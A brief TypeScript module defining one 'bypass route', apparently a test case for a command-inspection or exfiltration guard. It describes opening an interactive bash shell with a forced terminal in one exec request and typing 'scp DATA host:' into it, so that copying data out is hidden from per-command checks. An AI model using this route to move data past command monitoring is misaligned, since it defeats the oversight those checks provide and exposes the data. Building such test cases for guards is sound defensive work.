import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: typed into a shell with a terminal',
  source: 'commands of one exec request',
  words: ['bash -i'],
  options: ['-tt'],
  stdin: 'scp DATA host:\nexit\n',
};
